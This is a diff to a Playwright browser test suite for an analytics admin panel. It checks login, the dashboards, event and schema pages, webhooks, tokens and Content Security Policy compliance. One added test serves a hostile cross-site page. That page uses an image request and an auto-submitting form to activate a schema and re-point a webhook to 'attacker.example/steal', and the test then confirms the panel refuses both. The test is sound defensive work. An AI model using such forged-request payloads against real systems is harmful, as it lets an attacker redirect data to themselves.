@@ -1,11 +1,13 @@
 import { existsSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { mkdir, mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { randomUUID } from 'node:crypto';
 import { createSchemaCompiler, registerEventSchema } from '@argus/shared';
 import { eventually } from '@argus/shared/testing';
-import { chromium, type BrowserContext, type Page } from 'playwright-core';
+import { chromium, type BrowserContext, type Page, type Request } from 'playwright-core';
 import { sampleEvent } from '../../test/support/stack.js';
 import { operator, startAdminStack, type AdminStack } from './admin-stack.js';
 
@@ -26,6 +28,8 @@ describeInBrowser('admin panel in a browser', () => {
   let errorId: string;
   let schemaIds: string[];
   const policyViolations: string[] = [];
+  const consoleErrors: string[] = [];
+  const foreignRequests: string[] = [];
 
   beforeAll(async () => {
     stack = await startAdminStack();
@@ -51,20 +55,29 @@ describeInBrowser('admin panel in a browser', () => {
     schemaIds = [];
     for (const schema of versions) schemaIds.push((await registerEventSchema(stack.database.db, createSchemaCompiler(), { ...kind, schema })).schema.id);
 
+    // outside production AdminJS bundles the components (Recharts included) on the first request for them
+    const bundled = await fetch(`${stack.adminUrl}/frontend/assets/components.bundle.js`, { signal: AbortSignal.timeout(110_000) });
+    expect(bundled.status).toBe(200);
     await mkdir(screenshots, { recursive: true });
     userDataDir = await mkdtemp(join(tmpdir(), 'argus-chromium-'));
     browser = await chromium.launchPersistentContext(userDataDir, {
       executablePath: chromiumPath,
       headless: true,
-      viewport: { width: 1280, height: 800 },
+      viewport: { width: 1400, height: 900 },
       args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
     });
-    browser.setDefaultTimeout(15_000);
+    // generous: the machine running the tests may be busy, and a page's first load parses megabytes of scripts
+    browser.setDefaultTimeout(30_000);
     page = await browser.newPage();
     page.on('console', (message) => {
       if (/Content Security Policy/i.test(message.text())) policyViolations.push(message.text());
+      if (message.type() === 'error') consoleErrors.push(`${page.url()}: ${message.text()}`);
     });
-  }, 120_000);
+    const panelOrigin = new URL(stack.adminUrl).origin;
+    page.on('request', (request) => {
+      if (!request.url().startsWith(panelOrigin) && !request.url().startsWith('data:')) foreignRequests.push(request.url());
+    });
+  }, 240_000);
 
   afterAll(async () => {
     await browser?.close();
@@ -73,31 +86,67 @@ describeInBrowser('admin panel in a browser', () => {
   });
 
   const shoot = (name: string) => page.screenshot({ path: join(screenshots, `${name}.png`) });
-  const confirmGuard = () => page.getByRole('button', { name: /confirm/i }).click();
+  const rowCount = (count: number) => eventually(async () => ((await page.locator('tbody tr').count()) === count ? true : undefined));
+  /** Every header of the list is at least as wide as its longest word: no column squeezed letter by letter. */
+  const squeezedHeaders = (): Promise<string[]> =>
+    page.evaluate(`(() => {
+      const canvas = document.createElement('canvas').getContext('2d');
+      return [...document.querySelectorAll('table th')].flatMap((th) => {
+        const style = getComputedStyle(th);
+        canvas.font = style.fontWeight + ' ' + style.fontSize + ' ' + style.fontFamily;
+        const widest = Math.max(0, ...th.textContent.split(/\s+/).map((word) => canvas.measureText(word).width));
+        const inner = th.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
+        return inner + 1 < widest ? [th.textContent + ': ' + inner + 'px < ' + widest + 'px'] : [];
+      });
+    })()`);
+  const backgroundOf = (selector: string): Promise<string> => page.evaluate(`getComputedStyle(document.querySelector('${selector}')).backgroundColor`);
 
-  it('asks for a login, then lands on the dashboard', async () => {
-    await page.goto(stack.adminUrl);
+  it('asks for a login on a page that says Argus, then lands on a dashboard with a labelled chart', async () => {
+    await page.goto(stack.adminUrl, { timeout: 90_000 });
     expect(page.url()).toMatch(/\/admin\/login$/);
+    await page.getByText('Operator console').waitFor();
+    expect(await page.locator('body').innerText()).not.toMatch(/AdminJS/);
+    expect(await page.locator('link[rel="icon"], link[rel="shortcut icon"]').first().getAttribute('href')).toMatch(/favicon\.svg$/);
     await shoot('login');
     await page.fill('input[name="email"]', operator.email);
     await page.fill('input[name="password"]', operator.password);
     await page.getByRole('button', { name: 'Login' }).click();
-    await page.getByText('Events received per minute, last hour').waitFor();
-    await page.locator('[data-figure="Events, last hour"]', { hasText: '2' }).waitFor();
+    await page.getByText('Is everything flowing?').waitFor();
+    await page.locator('[data-figure="Stored"]', { hasText: '2' }).waitFor();
+    const chart = page.locator('[data-chart]');
+    await chart.getByText('time (UTC)').waitFor();
+    await chart.getByText('events per 1 min').waitFor();
+    const ticks = await chart.locator('.recharts-xAxis .recharts-cartesian-axis-tick-value').allTextContents();
+    expect(ticks.length).toBeGreaterThan(3);
+    for (const tick of ticks) expect(tick).toMatch(/^\d\d:\d\d$/);
     await shoot('dashboard');
-  }, 90_000);
+    await page.locator('[data-window="7d"]').click();
+    await chart.getByText('events per 2 h').waitFor();
+    await page.locator('#dashboard-application').selectOption({ label: 'storefront' });
+    await page.locator('[data-figure="Invalid"]', { hasText: '1' }).waitFor();
+    await shoot('dashboard-7d');
+  }, 180_000);
 
-  it('lists events newest first and filters them by session', async () => {
+  it('lists events with application names and zoned times, and the filter drawer closes on Apply', async () => {
     await page.goto(`${stack.adminUrl}/resources/events`);
-    await page.getByText('/other-visit').or(page.locator('td', { hasText: 'pageview' }).first()).first().waitFor();
-    expect(await page.locator('tbody tr').count()).toBe(2);
+    await page.locator('td', { hasText: 'pageview' }).first().waitFor();
+    await rowCount(2);
+    expect(await page.locator('tbody tr td a', { hasText: /^storefront$/ }).count()).toBe(2);
+    expect(await page.locator('tbody').textContent()).not.toContain(token.applicationId);
+    expect(await page.locator('tbody tr').first().textContent()).toMatch(/\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC/);
+    expect(await squeezedHeaders()).toEqual([]);
     await shoot('events');
 
-    await page.goto(`${stack.adminUrl}/resources/events?filters.sessionId=${sessionId}`);
-    await page.locator('tbody tr').first().waitFor();
-    await expect(eventually(async () => ((await page.locator('tbody tr').count()) === 1 ? true : undefined))).resolves.toBe(true);
+    await page.getByText('Filter', { exact: true }).click();
+    const drawer = page.locator('[data-css="events-filter-drawer"]');
+    await drawer.locator('input[name="filter-sessionId"]').fill(sessionId);
+    await drawer.getByRole('button', { name: /apply/i }).click();
+    await rowCount(1);
+    // a closed drawer slides out of the viewport to the right
+    const drawerLeft = (): Promise<number> => page.evaluate(`document.querySelector('[data-css="events-filter-drawer"]').getBoundingClientRect().left`);
+    await eventually(async () => ((await drawerLeft()) >= 1400 ? true : undefined), 5000, 'the drawer to close');
     await shoot('events-of-session');
-  }, 60_000);
+  }, 120_000);
 
   it('shows one event with its data as indented JSON', async () => {
     await page.locator('tbody tr').first().click();
@@ -106,35 +155,80 @@ describeInBrowser('admin panel in a browser', () => {
     await json.waitFor();
     expect(await json.textContent()).toContain('"path": "/pricing"');
     await shoot('event');
-  }, 60_000);
+  }, 120_000);
 
-  it('opens an invalid event with its reasons and replays it', async () => {
+  it('opens the session itself when the middle of its row is clicked', async () => {
+    await page.goto(`${stack.adminUrl}/resources/sessions`);
+    await rowCount(2);
+    const row = page.locator('tbody tr', { hasText: sessionId });
+    const box = (await row.boundingBox())!;
+    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
+    await page.waitForURL(new RegExp(`/resources/sessions/records/${sessionId}/show`));
+    expect(await squeezedHeaders()).toEqual([]);
+    await shoot('session');
+  }, 120_000);
+
+  it('lists invalid events with their kind and a readable reason, and shows a replay that fails again', async () => {
+    await page.goto(`${stack.adminUrl}/resources/event_errors`);
+    const row = page.locator('tbody tr').first();
+    await row.locator('[data-reasons]').waitFor();
+    expect(await row.locator('[data-reasons]').textContent()).toMatch(/^data\.element: \S/);
+    expect(await row.textContent()).toContain('cta click');
+    expect(await row.textContent()).toContain('storefront');
+    expect(await squeezedHeaders()).toEqual([]);
+    await shoot('event-errors');
+
     await page.goto(`${stack.adminUrl}/resources/event_errors/records/${errorId}/show`);
-    await page.locator('pre', { hasText: 'data.element' }).waitFor();
+    await page.locator('ul[data-reasons]', { hasText: 'data.element' }).waitFor();
     await shoot('event-error');
-    // emptied so that the worker's fresh verdict is visible below
-    await stack.database.db.query(`UPDATE event_errors SET reasons = '[]' WHERE id = $1`, [errorId]);
-    await page.getByText('Replay', { exact: true }).click();
-    await confirmGuard();
-    await page.getByText(/sent to the worker again/).waitFor();
-    // the rules have not changed, so the worker fails it again: mark set by the panel, then cleared by the worker
-    await eventually(async () => {
-      const [row] = await stack.database.db.query(`SELECT replayed_at, reasons FROM event_errors WHERE id = $1`, [errorId]);
-      return row.replayed_at === null && JSON.stringify(row.reasons).includes('data.element') ? true : undefined;
-    });
-  }, 60_000);
+    await page.goto(`${stack.adminUrl}/resources/event_errors/records/${errorId}/replay`);
+    await page.getByText(/its reasons are replaced by the new ones/).waitFor();
+    // a replay is no deletion: its button is not the red one
+    const button = page.locator('[data-confirm="replay"]');
+    expect(await backgroundOf('[data-confirm="replay"]')).not.toMatch(/rgb\(2[0-9]{2}, [0-9]{1,2}, [0-9]{1,2}\)/);
+    await button.click();
+    await page.getByText('1 event sent to the worker again').waitFor();
+    // the rules have not changed: the worker fails it again, and the page says so
+    await page.locator('[data-outcome^="failed again when replayed at"]').waitFor({ timeout: 15_000 });
+    await shoot('event-error-replayed');
+  }, 120_000);
+
+  it('groups invalid events by reason on the triage page', async () => {
+    await page.goto(`${stack.adminUrl}/pages/triage`);
+    const group = page.locator('tr[data-group^="data.element: "]');
+    await group.waitFor();
+    expect(await group.textContent()).toContain('storefront');
+    await group.locator('td').first().getByRole('link').click();
+    await page.locator(`a[href$="/resources/event_errors/records/${errorId}/show"]`).waitFor();
+    await group.locator('[data-replay-group]').click();
+    await page.locator('[data-notice]', { hasText: 'of this group sent to the worker again' }).waitFor();
+    await group.locator('[data-replays]', { hasText: 'failed again' }).waitFor({ timeout: 15_000 });
+    await shoot('triage');
+  }, 120_000);
+
+  it('shows an event on the live page within 2 s of being stored, invalid ones marked with their reasons', async () => {
+    await page.goto(`${stack.adminUrl}/pages/live`);
+    await page.locator('table[data-live] tbody tr').first().waitFor();
+    const liveId = randomUUID();
+    expect((await stack.post(sampleEvent({ event_id: liveId, session_id: randomUUID(), name: 'pageview', data: { host: 'example.com', path: '/live' } }), { token: token.token })).status).toBe(202);
+    await eventually(async () => ((await stack.database.db.query('SELECT 1 FROM events WHERE id = $1', [liveId])).length === 1 ? true : undefined));
+    await page.locator(`tr[data-event-id="${liveId}"]`).waitFor({ timeout: 2000 });
+    expect(await page.locator('tr.argus-invalid').first().textContent()).toMatch(/invalid: data\.element: /);
+    await shoot('live');
+  }, 120_000);
 
   it('lists the schemas and shows one as indented JSON', async () => {
     await page.goto(`${stack.adminUrl}/resources/event_schemas`);
     await page.locator('td', { hasText: 'checkout' }).first().waitFor();
-    expect(await page.locator('tbody tr').count()).toBe(2);
+    await rowCount(2);
+    expect(await squeezedHeaders()).toEqual([]);
     await shoot('schemas');
     await page.goto(`${stack.adminUrl}/resources/event_schemas/records/${schemaIds[1]}/show`);
     const json = page.locator('pre', { hasText: 'currency' });
     await json.waitFor();
     expect(await json.textContent()).toContain('"enum": [\n');
     await shoot('schema');
-  }, 60_000);
+  }, 120_000);
 
   it('compares two versions side by side, with what the newer one would refuse', async () => {
     await page.goto(`${stack.adminUrl}/resources/event_schemas/records/${schemaIds[1]}/compare`);
@@ -143,7 +237,7 @@ describeInBrowser('admin panel in a browser', () => {
     await page.getByText('data.price: is newly required').waitFor();
     await page.getByText('data.currency: is now limited to "EUR", "USD"').waitFor();
     await shoot('schema-compare');
-  }, 60_000);
+  }, 120_000);
 
   it('adds a version from the one shown, saying clearly why bad JSON is refused', async () => {
     await page.goto(`${stack.adminUrl}/resources/event_schemas/records/${schemaIds[1]}/newVersion`);
@@ -159,9 +253,10 @@ describeInBrowser('admin panel in a browser', () => {
     await shoot('schema-new-version');
     const [{ count }] = await stack.database.db.query('SELECT count(*)::int AS count FROM event_schemas');
     expect(count).toBe(3);
-  }, 60_000);
+  }, 120_000);
 
-  it('creates a webhook destination, shows its secret once, and lists it with its state', async () => {
+  let destinationId: string;
+  it('creates a webhook destination, shows its secret once, lists it readably and shows its backlog', async () => {
     await page.goto(`${stack.adminUrl}/resources/destinations/actions/create`);
     await page.locator('#destination-name').fill('CRM webhook');
     await page.locator('#destination-url').fill('http://127.0.0.1:9/hook');
@@ -171,15 +266,81 @@ describeInBrowser('admin panel in a browser', () => {
     await secret.waitFor();
     expect(await secret.inputValue()).toMatch(/^whsec_/);
     await shoot('destination-created');
+    [{ id: destinationId }] = await stack.database.db.query(`SELECT id FROM destinations WHERE name = 'CRM webhook'`);
 
     await page.goto(`${stack.adminUrl}/resources/destinations`);
     const row = page.locator('tbody tr', { hasText: 'CRM webhook' });
     await row.waitFor();
     expect(await row.textContent()).toContain('running');
+    expect(await row.textContent()).toContain('http://127.0.0.1:9/hook');
+    expect(await squeezedHeaders()).toEqual([]);
     await shoot('destinations');
+
+    await page.goto(`${stack.adminUrl}/resources/destinations/records/${destinationId}/show`);
+    await page.locator('[data-backlog="In its queue"]').waitFor();
+    expect(await page.locator('[data-backlog="Dead letters"]').textContent()).toBe('0');
+    await page.locator('[data-recent-attempts]').waitFor();
+    await shoot('destination');
     await page.goto(`${stack.adminUrl}/resources/destination_dead_letters`);
-    await page.getByText('Destination Dead Letters').or(page.getByText('Destination dead letters')).first().waitFor();
-  }, 60_000);
+    await page.getByText('Dead letters').first().waitFor();
+  }, 120_000);
+
+  it('changes nothing for a page on another port of the same host: an image that activates, a form that re-points', async () => {
+    const target = (path: string) => `${stack.adminUrl}/api/resources/${path}`;
+    const hostile = createServer((_req, res) => {
+      res.setHeader('content-type', 'text/html');
+      res.end(`<!doctype html><body>
+        <img src="${target(`event_schemas/records/${schemaIds[1]}/activate`)}">
+        <iframe name="sink"></iframe>
+        <form id="repoint" method="POST" target="sink" action="${target(`destinations/records/${destinationId}/edit`)}">
+          <input name="name" value="CRM webhook"><input name="url" value="http://attacker.example/steal">
+        </form>
+        <script>document.getElementById('repoint').submit()</script>
+      </body>`);
+    });
+    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+    const attacker = await browser.newPage();
+    try {
+      const toPanel: Request[] = [];
+      attacker.on('request', (request) => {
+        if (request.url().startsWith(stack.adminUrl)) toPanel.push(request);
+      });
+      await attacker.goto(`http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`, { waitUntil: 'domcontentloaded' });
+      await eventually(async () => (toPanel.length >= 2 ? true : undefined), 10_000, 'both requests to reach the panel');
+      const repoint = toPanel.find((request) => request.method() === 'POST')!;
+      expect((await repoint.response())?.status()).toBe(403);
+      expect(repoint.headers()['sec-fetch-site'] ?? (await repoint.allHeaders())['sec-fetch-site']).toBe('same-site');
+    } finally {
+      await attacker.close();
+      hostile.closeAllConnections();
+      await new Promise<void>((resolve) => (hostile as Server).close(() => resolve()));
+    }
+    const [schema] = await stack.database.db.query('SELECT active FROM event_schemas WHERE id = $1', [schemaIds[1]]);
+    expect(schema.active).toBe(false);
+    const [destination] = await stack.database.db.query('SELECT url FROM destinations WHERE id = $1', [destinationId]);
+    expect(destination.url).toBe('http://127.0.0.1:9/hook');
+  }, 120_000);
+
+  it('creates an application and lands on its page, where a token is issued; tokens list their scopes by name', async () => {
+    await page.goto(`${stack.adminUrl}/resources/Application/actions/new`);
+    await page.locator('input[name="name"]').fill('billing');
+    await page.locator('input[name="email"]').fill('billing@example.com');
+    await page.getByRole('button', { name: /save/i }).click();
+    await page.waitForURL(/\/resources\/Application\/records\/[0-9a-f-]{36}\/show(\?.*)?$/);
+    await page.getByText('billing@example.com').waitFor();
+    await shoot('application-created');
+    await page.goto(`${page.url().replace(/\/show(\?.*)?$/, '')}/issueToken`);
+    await page.locator('#token-scopes').fill('read, write');
+    await page.getByRole('button', { name: 'Issue token' }).click();
+    await page.locator('#issued-token').waitFor();
+
+    await page.goto(`${stack.adminUrl}/resources/api_tokens`);
+    const row = page.locator('tbody tr', { hasText: 'billing' });
+    await row.waitFor();
+    expect(await row.locator('[data-scopes]').textContent()).toBe('read, write');
+    expect(await squeezedHeaders()).toEqual([]);
+    await shoot('tokens');
+  }, 120_000);
 
   it('names a mistyped scope on the token page instead of showing a token', async () => {
     await page.goto(`${stack.adminUrl}/resources/Application/records/${token.applicationId}/issueToken`);
@@ -188,18 +349,28 @@ describeInBrowser('admin panel in a browser', () => {
     await page.getByText('unknown scope "wirte"', { exact: false }).first().waitFor();
     expect(await page.locator('#issued-token').count()).toBe(0);
     await shoot('token-scope-refused');
-  }, 60_000);
+  }, 120_000);
 
-  it('revokes a token, and the api refuses it within seconds', async () => {
-    await page.goto(`${stack.adminUrl}/resources/api_tokens/records/${token.tokenId}/show`);
-    await page.getByText('Revoke', { exact: true }).click();
-    await confirmGuard();
-    await page.getByText('Token revoked').waitFor();
-    await shoot('token-revoked');
+  it('disables an application from its page, and the api refuses its tokens within seconds', async () => {
+    await page.goto(`${stack.adminUrl}/resources/Application/records/${token.applicationId}/disable`);
+    await page.getByText(/Every token it holds is revoked at once/).waitFor();
+    await page.locator('[data-confirm="disable"]').click();
+    await page.getByText('Application disabled: 1 token revoked').waitFor();
+    await shoot('application-disabled');
     await eventually(async () => ((await stack.post(sampleEvent(), { token: token.token })).status === 401 ? true : undefined), 10_000, 'a 401');
-  }, 60_000);
+  }, 120_000);
 
-  it('breaks no rule of its Content Security Policy on any page it showed', () => {
+  it('lists each destination with its state and backlog on the dashboard', async () => {
+    await page.goto(stack.adminUrl);
+    const row = page.locator('table[data-destinations] tbody tr', { hasText: 'CRM webhook' });
+    await row.waitFor();
+    expect(await row.textContent()).toContain('running');
+    await shoot('dashboard-destinations');
+  }, 120_000);
+
+  it('breaks no rule of its Content Security Policy, logs no error and asks no other host, on any page it showed', () => {
     expect(policyViolations).toEqual([]);
+    expect(consoleErrors).toEqual([]);
+    expect(foreignRequests).toEqual([]);
   });
 });
